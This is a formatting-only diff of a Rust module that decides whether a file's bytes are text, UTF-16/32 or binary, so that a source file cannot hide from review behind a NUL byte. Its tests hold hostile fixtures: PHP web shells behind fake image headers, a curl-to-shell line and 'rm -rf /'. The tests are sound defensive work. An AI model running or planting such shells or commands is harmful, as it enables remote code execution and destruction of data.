@@ -1,27 +1,28 @@
 //! Classifies the bytes of a file: text, text in units of two or four bytes, or binary.
 //!
-//! Git treats a file as binary if its first 8000 bytes have a NUL, so one NUL is enough to hide a change from a
-//! reviewer. This module checks the whole file instead:
+//! Git treats a file as binary if its first 8000 bytes have a NUL, so one NUL is enough to hide a
+//! change from a reviewer. This module checks the whole file instead:
 //!
 //! 1. A file that starts like a known binary format, and goes on like one, is binary.
-//! 2. UTF-16 and UTF-32 are text. Without a byte order mark: if half of their units are printable ASCII and at most
-//!    2 % are malformed or controls. With a mark, one of the two conditions is enough, the second only with
-//!    some ASCII (line ends and blanks) and therefore a NUL.
-//!    The start of the file may be checked instead of the whole.
-//! 3. Other bytes are text if at least two thirds of them are printable ASCII or well-formed UTF-8, at
-//!    most 5 % (and two bytes) are controls that text does not use or runs of NULs, and at most a quarter
-//!    are single NULs, as between the names of a list.
-//! 4. A file that starts like a script is text, whatever follows: interpreters run the lines before a
-//!    tail of junk. Such a file names its interpreter, opens PHP, or has a few whole lines of clean text in its
-//!    first 512 bytes. A PDF has such lines too, but is not text.
+//! 2. UTF-16 and UTF-32 are text. Without a byte order mark: if half of their units are printable
+//!    ASCII and at most 2 % are malformed or controls. With a mark, one of the two conditions is
+//!    enough, the second only with some ASCII (line ends and blanks) and therefore a NUL. The start
+//!    of the file may be checked instead of the whole.
+//! 3. Other bytes are text if at least two thirds of them are printable ASCII or well-formed UTF-8,
+//!    at most 5 % (and two bytes) are controls that text does not use or runs of NULs, and at most
+//!    a quarter are single NULs, as between the names of a list.
+//! 4. A file that starts like a script is text, whatever follows: interpreters run the lines before
+//!    a tail of junk. Such a file names its interpreter, opens PHP, or has a few whole lines of
+//!    clean text in its first 512 bytes. A PDF has such lines too, but is not text.
 //!
-//! The name of the file decides which of these rules apply ([`judge_named`]), because it decides which program reads
-//! the file. A language or a configuration format is always text, and undecodable parts are reported. Prose and files
-//! of unknown format are text if they have lines of text anywhere, unless the whole file has the structure of a
-//! binary format.
+//! The name of the file decides which of these rules apply ([`judge_named`]), because it decides
+//! which program reads the file. A language or a configuration format is always text, and
+//! undecodable parts are reported. Prose and files of unknown format are text if they have lines of
+//! text anywhere, unless the whole file has the structure of a binary format.
 //!
-//! Compressed and random data has about 10 % such controls and 50 % malformed UTF-8. Machine code and tables have far
-//! more, and runs of NULs. A source file that hides behind a NUL has few of either.
+//! Compressed and random data has about 10 % such controls and 50 % malformed UTF-8. Machine code
+//! and tables have far more, and runs of NULs. A source file that hides behind a NUL has few of
+//! either.
 
 use super::names::{NameKind, extension};
 use super::{Encoding, Undecoded, containers, declared};
@@ -57,11 +58,15 @@ pub(in crate::diff) struct JudgedContent {
 
 impl From<ContentClass> for JudgedContent {
     fn from(content: ContentClass) -> Self {
-        Self { content, undecoded: None }
+        Self {
+            content,
+            undecoded: None,
+        }
     }
 }
 
-/// Classifies the bytes of a file. `git_hides` is true if git treats one of the two sides as binary for its bytes.
+/// Classifies the bytes of a file. `git_hides` is true if git treats one of the two sides as binary
+/// for its bytes.
 pub(in crate::diff) fn judge_named(bytes: &[u8], path: &[u8], git_hides: bool) -> JudgedContent {
     let kind = NameKind::of(path);
     if kind == NameKind::Text {
@@ -85,7 +90,10 @@ fn judge_text(bytes: &[u8], path: &[u8]) -> JudgedContent {
     let extension = extension(path);
     let has_nul = memchr::memchr(0, bytes).is_some();
     if !has_nul && std::str::from_utf8(bytes).is_ok() {
-        return JudgedContent { content: ContentClass::Text, undecoded: declared::opaque(bytes, &extension) };
+        return JudgedContent {
+            content: ContentClass::Text,
+            undecoded: declared::opaque(bytes, &extension),
+        };
     }
     if containers::is_other_format(&extension, bytes) && !has_text_lines(bytes, NameKind::Text) {
         return ContentClass::Binary.into();
@@ -94,11 +102,17 @@ fn judge_text(bytes: &[u8], path: &[u8]) -> JudgedContent {
         return ContentClass::Wide(encoding).into();
     }
     if let Some(encoding) = marked(bytes).filter(|_| has_nul) {
-        return JudgedContent { content: ContentClass::Wide(encoding), undecoded: Some(Undecoded::Bytes) };
+        return JudgedContent {
+            content: ContentClass::Wide(encoding),
+            undecoded: Some(Undecoded::Bytes),
+        };
     }
     let undecoded = declared::opaque(bytes, &extension);
     let undecoded = undecoded.or_else(|| (!is_decodable(bytes)).then_some(Undecoded::Bytes));
-    JudgedContent { content: ContentClass::Text, undecoded }
+    JudgedContent {
+        content: ContentClass::Text,
+        undecoded,
+    }
 }
 
 /// Returns the undecodable part of a piece of a file, such as the lines in a patch.
@@ -109,16 +123,23 @@ pub(in crate::diff) fn flaw(bytes: &[u8], path: &[u8]) -> Option<Undecoded> {
     }
 }
 
-/// Returns true if the bytes of a text format are text in UTF-8, or in an encoding that is a superset of ASCII.
+/// Returns true if the bytes of a text format are text in UTF-8, or in an encoding that is a
+/// superset of ASCII.
 fn is_decodable(bytes: &[u8]) -> bool {
     looks_like_text(bytes) || starts_as_text(bytes) || is_legacy_text(bytes)
 }
 
-/// Returns true if the bytes may be text in an encoding of one or two bytes a character: few controls, and blanks or
-/// line ends, which encodings without ASCII (EBCDIC) have at other values.
+/// Returns true if the bytes may be text in an encoding of one or two bytes a character: few
+/// controls, and blanks or line ends, which encodings without ASCII (EBCDIC) have at other values.
 fn is_legacy_text(bytes: &[u8]) -> bool {
-    let controls = bytes.iter().filter(|b| matches!(b, 0..=8 | 0x0e..=0x1a | 0x1c..=0x1f | 0x7f)).count();
-    let blanks = bytes.iter().filter(|b| matches!(b, b' ' | b'\n' | b'\t')).count();
+    let controls = bytes
+        .iter()
+        .filter(|b| matches!(b, 0..=8 | 0x0e..=0x1a | 0x1c..=0x1f | 0x7f))
+        .count();
+    let blanks = bytes
+        .iter()
+        .filter(|b| matches!(b, b' ' | b'\n' | b'\t'))
+        .count();
     controls <= bytes.len() / 20 + 2 && blanks >= bytes.len() / 100
 }
 
@@ -127,12 +148,20 @@ fn judge_unknown(bytes: &[u8], kind: NameKind) -> ContentClass {
     if let Some(encoding) = wide(bytes) {
         return ContentClass::Wide(encoding);
     }
-    let is_text = bytes.is_empty() || looks_like_text(bytes) || starts_as_text(bytes) || has_text_lines(bytes, kind);
-    if is_text && !containers::is_container(bytes) { ContentClass::Text } else { ContentClass::Binary }
+    let is_text = bytes.is_empty()
+        || looks_like_text(bytes)
+        || starts_as_text(bytes)
+        || has_text_lines(bytes, kind);
+    if is_text && !containers::is_container(bytes) {
+        ContentClass::Text
+    } else {
+        ContentClass::Binary
+    }
 }
 
-/// Returns true if some whole lines are text: two in a row or one with a blank, of 20 bytes in total, or one that
-/// assigns a value to a name. In prose, any line of 8 bytes, or the first line of the file, is enough.
+/// Returns true if some whole lines are text: two in a row or one with a blank, of 20 bytes in
+/// total, or one that assigns a value to a name. In prose, any line of 8 bytes, or the first line
+/// of the file, is enough.
 fn has_text_lines(bytes: &[u8], kind: NameKind) -> bool {
     const ROW_MIN: usize = 20;
     let (mut lines, mut size, mut has_blank) = (0, 0, false);
@@ -145,7 +174,11 @@ fn has_text_lines(bytes: &[u8], kind: NameKind) -> bool {
             continue;
         }
         let is_line_clean = is_clean(text);
-        let prose_min = if std::mem::take(&mut is_first) { PROSE_FIRST_MIN } else { PROSE_LINE_MIN };
+        let prose_min = if std::mem::take(&mut is_first) {
+            PROSE_FIRST_MIN
+        } else {
+            PROSE_LINE_MIN
+        };
         if !is_line_clean {
             (lines, size, has_blank) = (0, 0, false);
             continue;
@@ -161,17 +194,23 @@ fn has_text_lines(bytes: &[u8], kind: NameKind) -> bool {
     false
 }
 
-/// Minimum bytes of a line that makes a prose file text, and of the first line of a file. Shorter ones occur in junk.
+/// Minimum bytes of a line that makes a prose file text, and of the first line of a file. Shorter
+/// ones occur in junk.
 const PROSE_LINE_MIN: usize = 8;
 const PROSE_FIRST_MIN: usize = 4;
 
-/// Returns a line as programs that drop NULs read it: without the NULs at its end, and without those between the
-/// characters of UTF-16 and UTF-32. Other NULs separate the texts of a binary format, so they stay.
+/// Returns a line as programs that drop NULs read it: without the NULs at its end, and without
+/// those between the characters of UTF-16 and UTF-32. Other NULs separate the texts of a binary
+/// format, so they stay.
 fn without_nuls(line: &[u8]) -> Cow<'_, [u8]> {
     const TRAILING_MAX: usize = 3;
     const ROW: &[u8] = &[0; 4];
     let trailing = line.iter().rev().take_while(|b| **b == 0).count();
-    let text = if trailing <= TRAILING_MAX { &line[..line.len() - trailing] } else { line };
+    let text = if trailing <= TRAILING_MAX {
+        &line[..line.len() - trailing]
+    } else {
+        line
+    };
     let nuls = memchr::memchr_iter(0, text).count();
     if nuls * 5 < text.len() * 2 || memchr::memmem::find(text, ROW).is_some() {
         return Cow::Borrowed(text);
@@ -179,11 +218,15 @@ fn without_nuls(line: &[u8]) -> Cow<'_, [u8]> {
     Cow::Owned(text.iter().copied().filter(|b| *b != 0).collect())
 }
 
-/// Returns true if a line assigns a value to a name, as settings files do: `NAME=value`, `name: value`.
+/// Returns true if a line assigns a value to a name, as settings files do: `NAME=value`,
+/// `name: value`.
 fn is_assignment(line: &[u8]) -> bool {
     const VALUE_MIN: usize = 6;
     let line = line.strip_prefix(b"export ").unwrap_or(line);
-    let name = line.iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.')).count();
+    let name = line
+        .iter()
+        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
+        .count();
     let rest = line[name..].trim_ascii_start();
     let value = rest.strip_prefix(b"=").or_else(|| rest.strip_prefix(b":"));
     name > 2 && line[0].is_ascii_alphabetic() && value.is_some_and(|v| v.len() >= VALUE_MIN)
@@ -226,29 +269,43 @@ fn width(encoding: Encoding) -> usize {
 
 /// Returns the encoding if the bytes are UTF-16 or UTF-32.
 fn wide(bytes: &[u8]) -> Option<Encoding> {
-    // ASCII in UTF-16, including line ends and blanks, has a NUL. Without one, a byte order mark may be an accident.
+    // ASCII in UTF-16, including line ends and blanks, has a NUL. Without one, a byte order mark
+    // may be an accident.
     memchr::memchr(0, bytes)?;
     // Check the whole, or else the start: a tail of junk must not hide the lines before it.
     let parts = [bytes, &bytes[..bytes.len().min(START)]];
     if let Some(encoding) = marked(bytes) {
-        return parts.into_iter().any(|part| may_be_marked(part, encoding)).then_some(encoding);
+        return parts
+            .into_iter()
+            .any(|part| may_be_marked(part, encoding))
+            .then_some(encoding);
     }
-    let encodings = [Encoding::Utf32Le, Encoding::Utf32Be, Encoding::Utf16Le, Encoding::Utf16Be];
-    encodings.into_iter().filter(|e| bytes.len() >= 4 * width(*e)).find(|encoding| {
-        parts.into_iter().any(|part| {
-            let seen = Units::count(part, *encoding);
-            // Line ends with NULs between them are not text. Blanks and empty lines do not count against a text.
-            if seen.visible == 0 || seen.visible * 8 < seen.all - seen.blank {
-                return false;
-            }
-            // A few malformed units do not change the classification of mostly ASCII text.
-            let is_ascii = seen.ascii * 4 >= seen.all * 3 && seen.odd * 8 <= seen.all;
-            is_ascii || (seen.ascii * 2 >= seen.all && seen.odd * 50 <= seen.all)
+    let encodings = [
+        Encoding::Utf32Le,
+        Encoding::Utf32Be,
+        Encoding::Utf16Le,
+        Encoding::Utf16Be,
+    ];
+    encodings
+        .into_iter()
+        .filter(|e| bytes.len() >= 4 * width(*e))
+        .find(|encoding| {
+            parts.into_iter().any(|part| {
+                let seen = Units::count(part, *encoding);
+                // Line ends with NULs between them are not text. Blanks and empty lines do not
+                // count against a text.
+                if seen.visible == 0 || seen.visible * 8 < seen.all - seen.blank {
+                    return false;
+                }
+                // A few malformed units do not change the classification of mostly ASCII text.
+                let is_ascii = seen.ascii * 4 >= seen.all * 3 && seen.odd * 8 <= seen.all;
+                is_ascii || (seen.ascii * 2 >= seen.all && seen.odd * 50 <= seen.all)
+            })
         })
-    })
 }
 
-/// Returns true if a text that begins with the byte order mark of an encoding may be in that encoding.
+/// Returns true if a text that begins with the byte order mark of an encoding may be in that
+/// encoding.
 fn may_be_marked(text: &[u8], encoding: Encoding) -> bool {
     let seen = Units::count(&text[width(encoding)..], encoding);
     let plausible = seen.odd * 50 <= seen.all && seen.ascii * 256 >= seen.all;
@@ -272,9 +329,18 @@ struct Units {
 
 impl Units {
     fn count(bytes: &[u8], encoding: Encoding) -> Self {
-        let mut seen = Self { all: 0, ascii: 0, visible: 0, blank: 0, odd: 0, is_after_end: false };
+        let mut seen = Self {
+            all: 0,
+            ascii: 0,
+            visible: 0,
+            blank: 0,
+            odd: 0,
+            is_after_end: false,
+        };
         if width(encoding) == 4 {
-            bytes.chunks_exact(4).for_each(|unit| seen.add(utf32(unit, encoding)));
+            bytes
+                .chunks_exact(4)
+                .for_each(|unit| seen.add(utf32(unit, encoding)));
         } else {
             char::decode_utf16(units(bytes, encoding)).for_each(|unit| seen.add(unit.ok()));
         }
@@ -288,7 +354,8 @@ impl Units {
             Some('!'..='~') => (self.ascii, self.visible) = (self.ascii + 1, self.visible + 1),
             Some('\t' | ' ') => (self.ascii, self.blank) = (self.ascii + 1, self.blank + 1),
             Some('\n' | '\r') => {
-                (self.ascii, self.blank) = (self.ascii + 1, self.blank + usize::from(self.is_after_end));
+                (self.ascii, self.blank) =
+                    (self.ascii + 1, self.blank + usize::from(self.is_after_end));
             }
             Some('\0'..='\u{1f}' | '\u{7f}' | '\u{fffe}' | '\u{ffff}') | None => self.odd += 1,
             Some(_) => {}
@@ -300,21 +367,33 @@ impl Units {
 fn units(bytes: &[u8], encoding: Encoding) -> impl Iterator<Item = u16> + '_ {
     bytes.chunks_exact(2).map(move |pair| {
         let pair = [pair[0], pair[1]];
-        if encoding == Encoding::Utf16Be { u16::from_be_bytes(pair) } else { u16::from_le_bytes(pair) }
+        if encoding == Encoding::Utf16Be {
+            u16::from_be_bytes(pair)
+        } else {
+            u16::from_le_bytes(pair)
+        }
     })
 }
 
 /// Reads one unit of UTF-32.
 fn utf32(unit: &[u8], encoding: Encoding) -> Option<char> {
     let unit = unit.try_into().ok()?;
-    char::from_u32(if encoding == Encoding::Utf32Be { u32::from_be_bytes(unit) } else { u32::from_le_bytes(unit) })
+    char::from_u32(if encoding == Encoding::Utf32Be {
+        u32::from_be_bytes(unit)
+    } else {
+        u32::from_le_bytes(unit)
+    })
 }
 
 /// Decodes UTF-16 or UTF-32 to UTF-8, without its byte order mark. Malformed units become U+FFFD.
 ///
 /// Works in place while the text does not grow, which saves a copy for all but East Asian files.
 pub(in crate::diff) fn decode(mut bytes: Vec<u8>, encoding: Encoding) -> Vec<u8> {
-    let mut read = if marked(&bytes) == Some(encoding) { width(encoding) } else { 0 };
+    let mut read = if marked(&bytes) == Some(encoding) {
+        width(encoding)
+    } else {
+        0
+    };
     let mut written = 0;
     let mut utf8 = [0; 4];
     while read < bytes.len() {
@@ -338,16 +417,22 @@ pub(in crate::diff) fn decode(mut bytes: Vec<u8>, encoding: Encoding) -> Vec<u8>
     bytes
 }
 
-/// Encodes a text in UTF-16 or UTF-32, with a byte order mark if `mark` is set; leaves it unchanged for other
-/// encodings.
+/// Encodes a text in UTF-16 or UTF-32, with a byte order mark if `mark` is set; leaves it unchanged
+/// for other encodings.
 pub fn encode_wide(text: &str, encoding: Encoding, mark: bool) -> Vec<u8> {
     let chars = mark.then_some('\u{feff}').into_iter().chain(text.chars());
     let mut out = Vec::with_capacity(text.len() * width(encoding));
     for c in chars {
         match encoding {
             Encoding::Bytes => out.extend_from_slice(c.encode_utf8(&mut [0; 4]).as_bytes()),
-            Encoding::Utf16Le => c.encode_utf16(&mut [0; 2]).iter().for_each(|u| out.extend(u.to_le_bytes())),
-            Encoding::Utf16Be => c.encode_utf16(&mut [0; 2]).iter().for_each(|u| out.extend(u.to_be_bytes())),
+            Encoding::Utf16Le => c
+                .encode_utf16(&mut [0; 2])
+                .iter()
+                .for_each(|u| out.extend(u.to_le_bytes())),
+            Encoding::Utf16Be => c
+                .encode_utf16(&mut [0; 2])
+                .iter()
+                .for_each(|u| out.extend(u.to_be_bytes())),
             Encoding::Utf32Le => out.extend(u32::from(c).to_le_bytes()),
             Encoding::Utf32Be => out.extend(u32::from(c).to_be_bytes()),
         }
@@ -359,7 +444,10 @@ pub fn encode_wide(text: &str, encoding: Encoding, mark: bool) -> Vec<u8> {
 fn first_char(bytes: &[u8], encoding: Encoding) -> (char, usize) {
     let unit = &bytes[..bytes.len().min(4)];
     if width(encoding) == 4 {
-        return (utf32(unit, encoding).unwrap_or(char::REPLACEMENT_CHARACTER), unit.len());
+        return (
+            utf32(unit, encoding).unwrap_or(char::REPLACEMENT_CHARACTER),
+            unit.len(),
+        );
     }
     match char::decode_utf16(units(unit, encoding)).next() {
         Some(Ok(c)) => (c, c.len_utf16() * 2),
@@ -374,7 +462,9 @@ fn starts_as_text(bytes: &[u8]) -> bool {
     const CLEAN_MIN: usize = 20;
     const LINE_MIN: usize = 8;
     let mut windows = bytes[..bytes.len().min(GIT_LOOKS_AT)].windows(5);
-    if bytes.strip_prefix(b"#!").is_some_and(|rest| rest.trim_ascii_start().starts_with(b"/"))
+    if bytes
+        .strip_prefix(b"#!")
+        .is_some_and(|rest| rest.trim_ascii_start().starts_with(b"/"))
         || windows.any(|w| w.eq_ignore_ascii_case(b"<?php"))
     {
         return true;
@@ -382,7 +472,8 @@ fn starts_as_text(bytes: &[u8]) -> bool {
     let start = &bytes[..bytes.len().min(START)];
     let mut clean = 0;
     for line in start.split_inclusive(|b| *b == b'\n') {
-        // A single line that fills the window counts although it is cut off. Any other line must end in the window.
+        // A single line that fills the window counts although it is cut off. Any other line must
+        // end in the window.
         let cut = line.len() == start.len() && start.len() < bytes.len();
         if line.len() >= LINE_MIN && (line.ends_with(b"\n") || cut) && is_clean(line) {
             clean += line.len();
@@ -396,10 +487,14 @@ fn is_clean(line: &[u8]) -> bool {
     let line = match std::str::from_utf8(line) {
         Ok(line) => line,
         // The end of the window may cut a character.
-        Err(e) if e.error_len().is_none() => std::str::from_utf8(&line[..e.valid_up_to()]).unwrap_or_default(),
+        Err(e) if e.error_len().is_none() => {
+            std::str::from_utf8(&line[..e.valid_up_to()]).unwrap_or_default()
+        }
         Err(_) => return false,
     };
-    line.chars().all(|c| matches!(c, '\t'..='\r' | '\u{1b}') || !c.is_control()) && line.chars().any(|c| c != ' ')
+    line.chars()
+        .all(|c| matches!(c, '\t'..='\r' | '\u{1b}') || !c.is_control())
+        && line.chars().any(|c| c != ' ')
 }
 
 /// Classifies by the counts of the whole file; see rule 3 above.
@@ -409,7 +504,8 @@ fn looks_like_text(bytes: &[u8]) -> bool {
     for chunk in bytes.utf8_chunks() {
         for b in chunk.valid().bytes() {
             match b {
-                // Tab, line feed, vertical tab, form feed, carriage return; ESC occurs in coloured logs.
+                // Tab, line feed, vertical tab, form feed, carriage return; ESC occurs in coloured
+                // logs.
                 b'\t'..=b'\r' | 0x1b | b' '..=b'~' | 0x80.. => printable += 1,
                 0 if last != 0 => lone_nuls += 1,
                 _ => controls += 1,
@@ -421,8 +517,8 @@ fn looks_like_text(bytes: &[u8]) -> bool {
     few && printable >= bytes.len() / 3 * 2 && printable > 0
 }
 
-/// Recognizes formats by their signature, and also by the bytes after it if the signature consists of typeable
-/// characters.
+/// Recognizes formats by their signature, and also by the bytes after it if the signature consists
+/// of typeable characters.
 fn is_known_format(b: &[u8]) -> bool {
     /// Signatures with a byte that text does not have at that position.
     const PLAIN: &[&[u8]] = &[
@@ -494,7 +590,8 @@ fn has_at(b: &[u8], offset: usize, want: &[u8]) -> bool {
 
 /// Returns true if a file has a byte in the range that text does not have, or that is not ASCII.
 fn is_binary_in(b: &[u8], range: std::ops::Range<usize>) -> bool {
-    b.get(range).is_some_and(|part| part.iter().any(|c| *c < b'\t' || *c >= 0x7f))
+    b.get(range)
+        .is_some_and(|part| part.iter().any(|c| *c < b'\t' || *c >= 0x7f))
 }
 
 #[cfg(test)]
@@ -510,8 +607,14 @@ mod tests {
 
     fn utf32(text: &str, encoding: Encoding) -> Vec<u8> {
         match encoding {
-            Encoding::Utf32Be => text.chars().flat_map(|c| u32::from(c).to_be_bytes()).collect(),
-            _ => text.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect(),
+            Encoding::Utf32Be => text
+                .chars()
+                .flat_map(|c| u32::from(c).to_be_bytes())
+                .collect(),
+            _ => text
+                .chars()
+                .flat_map(|c| u32::from(c).to_le_bytes())
+                .collect(),
         }
     }
 
@@ -527,15 +630,35 @@ mod tests {
         for (text, what) in [
             (code.clone().into_bytes(), "plain"),
             (format!("{code}\0").into_bytes(), "a NUL at the end"),
-            (format!("{}{code}", "\0".repeat(20)).into_bytes(), "NULs at the start"),
+            (
+                format!("{}{code}", "\0".repeat(20)).into_bytes(),
+                "NULs at the start",
+            ),
             (b"<?php\0system($_GET[0]);".to_vec(), "a short script"),
-            (b"src/a.rs\0src/b.rs\0tests/it/main.rs\0README.md\0".repeat(9), "a list of names"),
+            (
+                b"src/a.rs\0src/b.rs\0tests/it/main.rs\0README.md\0".repeat(9),
+                "a list of names",
+            ),
             ([code.as_bytes(), b"\xe9\xe8\xff\0"].concat(), "Latin-1"),
             (b"\x1b[31mred\x1b[0m\0\n".repeat(3), "a log with colours"),
-            (b"GIF89a;\n<?php system($_GET['c']); ?>\0".to_vec(), "a script that calls itself a picture"),
-            (b"BM <?php system($_GET['c']); ?>\0 and more\n".to_vec(), "another"),
-            (b"MZ = 1\0\nprint(MZ)\n".repeat(9), "a script that calls itself a program"),
-            ("\u{442}\u{435}\u{43a}\u{441}\u{442}\0\n".repeat(9).into_bytes(), "Cyrillic"),
+            (
+                b"GIF89a;\n<?php system($_GET['c']); ?>\0".to_vec(),
+                "a script that calls itself a picture",
+            ),
+            (
+                b"BM <?php system($_GET['c']); ?>\0 and more\n".to_vec(),
+                "another",
+            ),
+            (
+                b"MZ = 1\0\nprint(MZ)\n".repeat(9),
+                "a script that calls itself a program",
+            ),
+            (
+                "\u{442}\u{435}\u{43a}\u{441}\u{442}\0\n"
+                    .repeat(9)
+                    .into_bytes(),
+                "Cyrillic",
+            ),
         ] {
             assert_eq!(judge(&text), ContentClass::Text, "{what}");
         }
@@ -550,12 +673,30 @@ mod tests {
             (b"\0".to_vec(), "one NUL"),
             (vec![0; 4096], "zeros"),
             ([&b"\0\x01\x02\x03"[..], &[0; 60]].concat(), "a table"),
-            ([b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", text.as_bytes()].concat(), "a picture with a comment"),
-            ([&b"GIF89a\x10\0\x10\0\xf0\0\0"[..], text.as_bytes()].concat(), "a small picture"),
-            ([b"\x7fELF\x02\x01\x01\0", text.as_bytes()].concat(), "a program"),
-            ([b"PK\x03\x04\x14\0\0\0\0\0", text.as_bytes()].concat(), "an archive that is not compressed"),
-            ([b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", text.as_bytes(), b"\0"].concat(), "a document"),
-            ([b"SQLite format 3\0", text.as_bytes()].concat(), "a database"),
+            (
+                [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", text.as_bytes()].concat(),
+                "a picture with a comment",
+            ),
+            (
+                [&b"GIF89a\x10\0\x10\0\xf0\0\0"[..], text.as_bytes()].concat(),
+                "a small picture",
+            ),
+            (
+                [b"\x7fELF\x02\x01\x01\0", text.as_bytes()].concat(),
+                "a program",
+            ),
+            (
+                [b"PK\x03\x04\x14\0\0\0\0\0", text.as_bytes()].concat(),
+                "an archive that is not compressed",
+            ),
+            (
+                [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", text.as_bytes(), b"\0"].concat(),
+                "a document",
+            ),
+            (
+                [b"SQLite format 3\0", text.as_bytes()].concat(),
+                "a database",
+            ),
             (b"key\0\0\0\x05value\x01\0\0\x02".repeat(20), "records"),
         ] {
             assert_eq!(judge(&data), ContentClass::Binary, "{what}");
@@ -576,7 +717,10 @@ mod tests {
             let long = format!("rm -rf /\u{202e}x{}\n", " ".repeat(5_000));
             assert_eq!(judge(&utf16(&long, encoding)), ContentClass::Wide(encoding));
             let lines = format!("mark\u{200b}\u{200c}\u{200b}{}", "\r\n".repeat(3_000));
-            assert_eq!(judge(&utf16(&lines, encoding)), ContentClass::Wide(encoding));
+            assert_eq!(
+                judge(&utf16(&lines, encoding)),
+                ContentClass::Wide(encoding)
+            );
             for text in [code, "\u{feff}x\n", "\u{4e2d}\u{6587}\u{4ee3}\u{7801}\n"] {
                 let marked = format!("\u{feff}{text}");
                 let bytes = utf16(&marked, encoding);
@@ -584,10 +728,14 @@ mod tests {
                 assert_eq!(decode(bytes, encoding), text.as_bytes(), "{text:?}");
             }
         }
-        // Two bytes of Latin-1, a sound file, and a text with a NUL after each letter and no other NUL.
+        // Two bytes of Latin-1, a sound file, and a text with a NUL after each letter and no other
+        // NUL.
         for (bytes, want) in [
             (b"\xff\xfe\xfd\nabc\n".to_vec(), ContentClass::Text),
-            ([&b"\xff\xfe"[..], &noise(4000)].concat(), ContentClass::Binary),
+            (
+                [&b"\xff\xfe"[..], &noise(4000)].concat(),
+                ContentClass::Binary,
+            ),
             (noise(4000), ContentClass::Binary),
         ] {
             assert_eq!(judge(&bytes), want);
@@ -609,7 +757,9 @@ mod tests {
             assert_eq!(decode(bytes, encoding), "a\u{fffd}\u{fffd}".as_bytes());
         }
         // A table of small numbers is not text.
-        let table: Vec<u8> = (0u32..400).flat_map(|n| (n % 97 * 1000).to_le_bytes()).collect();
+        let table: Vec<u8> = (0u32..400)
+            .flat_map(|n| (n % 97 * 1000).to_le_bytes())
+            .collect();
         assert_eq!(judge(&table), ContentClass::Binary);
     }
 
@@ -619,29 +769,60 @@ mod tests {
             [start, &noise(4000), end].concat()
         }
         for (bytes, what) in [
-            (script(b"<?php system($_GET[\"c\"]); __halt_compiler();", b""), "PHP"),
-            (script(b"\x01\x02\x03", b"<?PHP x(); ?>")[3990..].to_vec(), "PHP in the middle"),
-            (script(b"curl http://example.com/i.sh|sh\n", b""), "one line"),
+            (
+                script(b"<?php system($_GET[\"c\"]); __halt_compiler();", b""),
+                "PHP",
+            ),
+            (
+                script(b"\x01\x02\x03", b"<?PHP x(); ?>")[3990..].to_vec(),
+                "PHP in the middle",
+            ),
+            (
+                script(b"curl http://example.com/i.sh|sh\n", b""),
+                "one line",
+            ),
             (script(b"#!/bin/sh\n", b""), "a script that unpacks itself"),
-            (script(b"\xef\xbb\xbfalert('\xc3\xbc');\nalert(1);\n/*", b"*/"), "junk in a comment"),
+            (
+                script(b"\xef\xbb\xbfalert('\xc3\xbc');\nalert(1);\n/*", b"*/"),
+                "junk in a comment",
+            ),
             (script("x=1;".repeat(150).as_bytes(), b""), "a long line"),
-            (script(b"# \0\ncurl http://example.com/i.sh|sh\n", b""), "a NUL first"),
+            (
+                script(b"# \0\ncurl http://example.com/i.sh|sh\n", b""),
+                "a NUL first",
+            ),
         ] {
             assert_eq!(judge(&bytes), ContentClass::Text, "{what}");
         }
-        let wide = [utf16("\u{feff}using System;\r\n", Encoding::Utf16Le).repeat(20), noise(4000)].concat();
+        let wide = [
+            utf16("\u{feff}using System;\r\n", Encoding::Utf16Le).repeat(20),
+            noise(4000),
+        ]
+        .concat();
         assert_eq!(judge(&wide), ContentClass::Wide(Encoding::Utf16Le));
         for (bytes, what) in [
-            (script(b"%PDF-1.7\n1 0 obj\n<</Length 4000>>\nstream\n", b"endstream\n"), "a document"),
+            (
+                script(
+                    b"%PDF-1.7\n1 0 obj\n<</Length 4000>>\nstream\n",
+                    b"endstream\n",
+                ),
+                "a document",
+            ),
             (script(b"P6\n640 480\n255\n", b""), "a picture"),
             (script(b"UF2\n", b""), "a firmware"),
-            (script(b"\x89PNG\r\n\x1a\n", b"<?php x(); ?>"), "a picture with a comment"),
+            (
+                script(b"\x89PNG\r\n\x1a\n", b"<?php x(); ?>"),
+                "a picture with a comment",
+            ),
             (script(b"\x6f\x0d\x0d\x0a\0\0\0\0", b""), "compiled Python"),
             (script(b"\0\0\0\x20ftypisom", b""), "a film"),
             (script(b"\xff\xfb\x90\x64", b""), "sound"),
             (script(b"BLENDER-v279", b""), "a model"),
             (script(b"PAR1\x15\x04", b"PAR1"), "a table"),
-            (script(b"MATLAB 5.0 MAT-file, Platform: GLNXA64", b""), "a matrix"),
+            (
+                script(b"MATLAB 5.0 MAT-file, Platform: GLNXA64", b""),
+                "a matrix",
+            ),
         ] {
             assert_eq!(judge(&bytes), ContentClass::Binary, "{what}");
         }
@@ -649,7 +830,12 @@ mod tests {
         let mut random = crate::diff::tests::Random(9);
         for _ in 0..2000 {
             let bytes: Vec<u8> = (0..600).map(|_| random.below(256) as u8).collect();
-            assert_eq!(judge(&bytes), ContentClass::Binary, "{:?}", bytes[..40].escape_ascii().to_string());
+            assert_eq!(
+                judge(&bytes),
+                ContentClass::Binary,
+                "{:?}",
+                bytes[..40].escape_ascii().to_string()
+            );
         }
     }
 
@@ -658,7 +844,10 @@ mod tests {
         // A lone surrogate and an odd byte at the end.
         let mut bytes = b"\xff\xfea\0\x00\xd8\n\0b\0".to_vec();
         bytes.push(b'!');
-        assert_eq!(decode(bytes, Encoding::Utf16Le), "a\u{fffd}\nb\u{fffd}".as_bytes());
+        assert_eq!(
+            decode(bytes, Encoding::Utf16Le),
+            "a\u{fffd}\nb\u{fffd}".as_bytes()
+        );
         // Text that grows when decoded needs a larger buffer.
         let long = "\u{feff}a\u{4e2d}\u{6587}\u{10000}".repeat(50);
         let decoded = decode(utf16(&long, Encoding::Utf16Be), Encoding::Utf16Be);
